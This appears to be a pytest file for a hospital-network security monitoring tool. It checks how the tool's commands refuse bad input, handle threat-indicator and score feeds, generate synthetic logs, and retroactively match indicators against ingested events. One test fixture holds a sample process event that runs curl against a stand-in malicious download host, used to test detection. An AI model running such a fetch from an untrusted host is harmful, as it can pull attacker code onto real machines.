"""Commands of the terminal where something is not as it should be: what they refuse, and what their exit code says."""

import gzip
import json
import os
import sqlite3
import subprocess
from contextlib import closing

import pytest
import requests

from folder import query, waiting_batches
from program import BINARY, clean_environment, run, serve, token, until
from samples import ROSEVAL, lines, process_creation


def refused(*arguments, **environment) -> str:
    """What a command says that refuses its arguments."""
    outcome = run(*arguments, **environment)
    assert outcome.code == 2, f"{outcome.code} {outcome.text} {outcome.errors}"
    return outcome.errors


@pytest.mark.parametrize("certificate", [("--certificate", "c.pem"), ("--key", "k.pem")])
def test_tokens_of_senders_are_never_taken_in_the_clear(certificate, tmp_path):
    (tmp_path / "tokens").write_text("un-jeton-de-collecte-pour-essai\n")
    said = refused(
        "collect", "--hub", "https://cordon.example", "--http", "0.0.0.0:0", "--http-tokens", tmp_path / "tokens",
        *certificate, CORDON_TOKEN="x")
    assert "--certificate and --key together" in said


@pytest.mark.parametrize("hub", ["http://cordon.example", "cordon.example", "ftp://cordon.example", "https:///x"])
def test_a_token_is_not_sent_in_the_clear(hub, tmp_path):
    assert "https" in refused("collect", "--hub", hub, "--follow", tmp_path, CORDON_TOKEN="x")


def test_numbers_and_words_out_of_range_are_refused(tmp_path):
    base = ["collect", "--hub", "https://cordon.example", "--follow", tmp_path]
    assert "verbose" in refused(*base, "--log-level", "verbose", CORDON_TOKEN="x")
    nats = ["collect", "--nats", "nats://127.0.0.1:1", "--establishment", ROSEVAL, "--follow", tmp_path]
    for flags in (["--leaf-limit", "-1"], ["--leaf-limit", "0"], ["--leaf-hours", "0"]):
        assert flags[0] in refused(*nats, *flags)


def test_an_export_that_could_not_be_written_fails(data):
    with open("/dev/full", "wb") as full:
        done = subprocess.run(
            [BINARY, "export", "systems", "--data", data], stdout=full, stderr=subprocess.PIPE, timeout=60,
            env=clean_environment())
    assert done.returncode == 1 and b"could not be written" in done.stderr
    assert run("export", "systems", "--data", data).must_succeed().text.count("\n") == 21


def test_fiction_is_not_mixed_into_real_records(data):
    before = query(data, "SELECT count(*) FROM establishment")
    outcome = run("generate", "--data", data, "--establishments", "3")
    assert outcome.code == 1 and "Réseau de la Lande" in outcome.errors and "--into-existing" in outcome.errors
    assert query(data, "SELECT count(*) FROM establishment") == before
    run("generate", "--data", data, "--establishments", "3", "--systems", "60", "--into-existing").must_succeed()
    assert query(data, "SELECT count(*) FROM establishment")[0][0] > before[0][0]


def test_a_day_of_fictional_logs_is_written_and_read(tmp_path):
    generate = ["generate", "--establishments", "4", "--systems", "60", "--records", "6000", "--day", "2026-03-14"]
    said = run(*generate, "--data", tmp_path / "a", "--logs", tmp_path / "logs a").must_succeed().errors
    written = sorted(path.relative_to(tmp_path / "logs a") for path in (tmp_path / "logs a").rglob("*.log"))
    hospitals = query(tmp_path / "a", "SELECT finess FROM establishment ORDER BY finess")
    assert sorted({path.parts[0] for path in written}) == [finess for (finess,) in hospitals]
    assert {path.stem for path in written} == {"windows", "syslog", "firewall", "cef", "dns", "proxy"}
    count = sum((tmp_path / "logs a" / path).read_bytes().count(b"\n") for path in written)
    assert 5_000 < count < 9_000 and f"{count} log records of 2026-03-14" in said
    # The same seed, sizes and day give the same bytes.
    run(*generate, "--data", tmp_path / "b", "--logs", tmp_path / "logs b").must_succeed()
    for path in written:
        assert (tmp_path / "logs a" / path).read_bytes() == (tmp_path / "logs b" / path).read_bytes(), path
    # The shipped rules see the attack in them.
    found = run("detect", "--format", "ndjson", "--timezone", "Europe/Paris", tmp_path / "logs a").must_succeed()
    assert {json.loads(line)["rule"]["level"] for line in found.text.splitlines()} >= {"critical", "high"}
    # Nothing is mixed into what is there, and nothing is recorded then.
    refusal = run(*generate, "--data", tmp_path / "c", "--logs", tmp_path / "logs a")
    assert refusal.code == 1 and "holds files already" in refusal.errors
    assert query(tmp_path / "c", "SELECT count(*) FROM establishment") == [(0,)]
    assert run(*generate[:-1], "yesterday", "--data", tmp_path / "d").code == 2


def test_a_demonstration_that_runs_is_not_taken_away(demonstration):
    outcome = run("demo", "--data", demonstration.folder, "--fresh", "--port", "0")
    assert outcome.code != 0 and "in use" in outcome.errors
    assert query(demonstration.folder, "SELECT count(*) FROM establishment")[0][0] == 14
    assert os.stat(demonstration.folder / "demo.json").st_mode & 0o077 == 0


def test_indicators_that_could_not_be_stored_are_a_failure(data, tmp_path):
    (tmp_path / "liste.txt").write_text("mechant.example\n")
    arguments = ["feeds", "indicators", tmp_path / "liste.txt", "--data", data, "--feed", "essai"]
    with closing(sqlite3.connect(data / "cordon.sqlite", timeout=10, isolation_level=None)) as other:
        other.execute("BEGIN IMMEDIATE")
        outcome = run(*arguments)
        other.execute("ROLLBACK")
    assert outcome.code == 1 and "another process is writing to the data folder" in outcome.errors
    assert query(data, "SELECT count(*) FROM indicator") == [(0,)]
    assert "1 new" in run(*arguments).must_succeed().errors


def test_a_light_that_is_not_understood_keeps_its_row_out(data, tmp_path):
    (tmp_path / "liste.csv").write_text("value,tlp\na.example,TLP:PURPLE\nb.example,TLP RED\nc.example,Vert\n")
    outcome = run("feeds", "indicators", tmp_path / "liste.csv", "--data", data, "--feed", "essai").must_succeed()
    assert "unknown TLP 'TLP:PURPLE'" in outcome.errors
    assert query(data, "SELECT value FROM indicator") == [("c.example",)]


def test_scores_keep_the_day_that_they_state(data, tmp_path):
    text = "#model_version:v1,score_date:2026-06-01T00:00:00+0000\ncve,epss,percentile\nCVE-2020-1472,0.9,0.9\n"
    (tmp_path / "EPSS du mois d’août.csv.gz").write_bytes(gzip.compress(text.encode()))
    run("feeds", "load", tmp_path, "--data", data, "--as-of", "2026-11-29").must_succeed()
    listing = json.loads(run("feeds", "list", "--data", data, "--format", "json").must_succeed().text)
    assert [row["asOf"] for row in listing if row["feed"] == "exploitScores"] == ["2026-06-01"]


def test_the_lifecycle_file_of_the_hospitals_is_written_and_read_in_both_forms(data, tmp_path):
    template = run("feeds", "template").must_succeed().text
    identifiers = [name for product in json.loads(template)["products"] for name in product.get("identifiers", [])]
    assert any(name.startswith("cpe:2.3:") for name in identifiers)
    (tmp_path / "cycle.json").write_text(template)
    run("feeds", "load", tmp_path, "--data", data).must_succeed()
    (tmp_path / "cycle.json").unlink()
    columns = run("feeds", "template", "--columns").must_succeed().output.decode("utf-8-sig")
    row = {"key": "sil-x", "title": "SIL X", "cycle": "7", "security_support_end": "31/12/2027", "source": "Éditeur",
           "as_of": "2026-05-04"}
    names = columns.strip().split(",")
    (tmp_path / "cycle de vie.csv").write_text(columns + ",".join(row.get(name, "") for name in names) + "\n")
    said = run("feeds", "load", tmp_path, "--data", data).must_succeed().errors
    assert "cycle de vie.csv" in said and "1 entries" in said


def test_the_first_start_is_whole_or_nothing(tmp_path):
    folder = tmp_path / "données"
    first = {"CORDON_NETWORK": "Réseau A", "CORDON_ADMIN": "admin@a.example", "CORDON_ADMIN_PASSWORD": "court"}
    outcome = run("serve", "--data", folder, "--port", "0", **first)
    assert outcome.code != 0 and "12" in outcome.errors
    assert query(folder, "SELECT count(*) FROM network") == [(0,)]


def test_an_inventory_with_one_bad_object_says_which(data, tmp_path):
    good = {"deviceid": "a", "content": {"hardware": {"name": "SRV-1", "uuid": "U-1"},
                                         "operatingsystem": {"full_name": "Debian 12", "version": 12.5}}}
    bad = {"content": {"hardware": {"name": "SRV-2"}}}
    file = tmp_path / "inventaire.json"
    file.write_text(json.dumps([good, bad]))
    outcome = run("import", "systems", file, "--data", data, "--establishment", ROSEVAL, "--set", "function=server")
    assert outcome.code != 0
    assert "object 2" in outcome.errors + outcome.text or "l’objet 2" in outcome.errors + outcome.text


def test_a_look_into_the_history_that_waited_at_a_stop_is_made_at_the_next_start(data, tmp_path):
    secret = token(data, "collecteur", "--ingest-for", ROSEVAL)
    with serve(data) as server:
        batch = lines([process_creation("1", "curl https://depot.mechant.example/a")])
        requests.post(
            f"{server.url}/api/v1/events", batch, headers={"Authorization": f"Bearer {secret}"}, timeout=20).raise_for_status()
        until(lambda: query(data, "SELECT count(*) FROM ingest_batch")[0][0] == 1 and waiting_batches(data) == 0)
        assert server.stop() == 0, server.said
    (tmp_path / "liste.txt").write_text("depot.mechant.example\n")
    run("feeds", "indicators", tmp_path / "liste.txt", "--data", data, "--feed", "essai").must_succeed()
    # As a server leaves it that is stopped before it came to that.
    number, = query(data, "SELECT id FROM indicator")[0]
    (data / "look-backs.json").write_text(json.dumps([number]))
    with serve(data) as server:
        until(lambda: query(data, "SELECT records FROM sighting WHERE origin = 'history'") == [(1,)], 30, "the sighting")
        until(lambda: json.loads((data / "look-backs.json").read_text()) == {"waiting": [], "later": []}, 10, "an empty list")
        assert server.stop() == 0, server.said
